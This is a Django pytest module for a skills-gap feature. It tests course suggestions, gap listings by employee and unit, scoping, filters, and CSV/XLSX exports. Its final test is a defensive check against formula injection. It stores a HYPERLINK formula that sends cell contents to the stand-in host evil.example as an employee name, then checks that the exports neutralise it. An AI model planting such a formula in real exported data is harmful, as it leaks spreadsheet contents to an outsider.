import pytest
from django.urls import reverse

from skills.gaps import (
    Need,
    SuggestedCourse,
    register_course_finder,
    suggest_courses,
    unregister_course_finder,
)


@pytest.fixture
def finder(framework):
    """A stand-in for the courses app: a course for SS-01 at any rank."""
    asked = []

    def find(needs, *, user):
        asked.append(set(needs))
        ss01 = framework["competencies"]["SS-01"].pk
        return {
            need: [
                SuggestedCourse("Xidmət standartları 101", "/courses/ss/", "/assign/")
            ]
            for need in needs
            if need.competency_id == ss01
        }

    register_course_finder(find)
    yield asked
    unregister_course_finder(find)


@pytest.fixture(autouse=True)
def only_the_finders_of_this_module():
    """The courses app registers its own finder; these tests use their own."""
    from skills import gaps

    saved = list(gaps._finders)
    gaps._finders.clear()
    yield
    gaps._finders[:] = saved


def test_without_a_finder_no_course_is_suggested(staff):
    assert suggest_courses({Need(1, 2)}, user=staff["hr"].user) == {}


def test_registering_a_finder_twice_counts_once(finder, staff):
    from skills import gaps

    register_course_finder(gaps._finders[-1])
    assert len(gaps._finders) == 1


def test_gaps_by_employee_lists_what_is_not_met(client, staff, give):
    give(staff["anar"], "SS-01", 2)
    give(staff["anar"], "SS-02", 1)
    give(staff["banu"], "SS-01", 1)
    client.force_login(staff["hr"].user)
    response = client.get(reverse("skills_gaps"))
    found = {item.employee: item for item in response.context["object_list"]}
    assert staff["anar"] not in found  # meets everything
    assert (
        found[staff["banu"]].gap_text
        == "SS-01: Məlumatlı → Praktik; SS-02: — → Məlumatlı"
    )
    assert "will be suggested next to each gap" in response.content.decode()


def test_suggested_courses_appear_with_an_assign_button(client, staff, finder):
    client.force_login(staff["hr"].user)
    html = client.get(reverse("skills_gaps")).content.decode()
    assert "Xidmət standartları 101" in html
    assert 'action="/assign/"' in html and 'name="employee"' in html
    assert len(finder) == 1  # one call for the whole page


def test_gaps_by_employee_are_scoped_and_filtered(client, staff, framework, tree):
    client.force_login(staff["manager"].user)
    response = client.get(reverse("skills_gaps"))
    people = {item.employee for item in response.context["object_list"]}
    assert staff["ceyhun"] not in people and staff["banu"] in people
    response = client.get(
        reverse("skills_gaps"), {"area": framework["areas"]["ethics"].pk}
    )
    assert {i.employee for i in response.context["object_list"]} == {staff["dilara"]}


def test_gaps_by_employee_export_as_csv(client, staff):
    client.force_login(staff["hr"].user)
    response = client.get(reverse("skills_gaps"), {"export": "csv"})
    text = b"".join(response.streaming_content).decode()
    assert "Requirements not met" in text and "Babayeva Banu" in text


def test_gaps_by_unit_count_the_people_short(client, staff, give, finder):
    give(staff["anar"], "SS-01", 2)
    client.force_login(staff["hr"].user)
    response = client.get(reverse("skills_unit_gaps"))
    rows = {
        (row.gap.unit.code, row.gap.competency.code): (row.missing, row.required)
        for row in response.context["object_list"]
    }
    assert rows[("baku-1-yasamal-front", "SS-01")] == (1, 2)
    assert rows[("baku-1-yasamal-front", "SS-02")] == (2, 2)
    assert rows[("ganja-front", "SS-01")] == (1, 1)
    assert 'name="org_unit"' in response.content.decode()


def test_gaps_by_unit_bad_filter_gives_a_message(client, staff):
    client.force_login(staff["manager"].user)
    response = client.get(reverse("skills_unit_gaps"), {"unit": "nope"})
    assert response.status_code == 200
    assert [m.level_tag for m in response.context["messages"]] == ["error"]


def test_gaps_by_employee_exports_a_formula_name_as_text(client, staff):
    """CSV: a leading apostrophe; XLSX: a typed string cell, never a formula."""
    import csv
    import io

    from openpyxl import load_workbook

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Bax")'
    staff["banu"].full_name = hostile
    staff["banu"].save()
    client.force_login(staff["hr"].user)
    response = client.get(reverse("skills_gaps"), {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert "'" + hostile in cells and hostile not in cells
    response = client.get(reverse("skills_gaps"), {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    (name,) = [c for row in sheet.iter_rows() for c in row if c.value == hostile]
    assert name.data_type == "s"
    assert sheet.freeze_panes == "A2" and sheet.column_dimensions["B"].width > 20
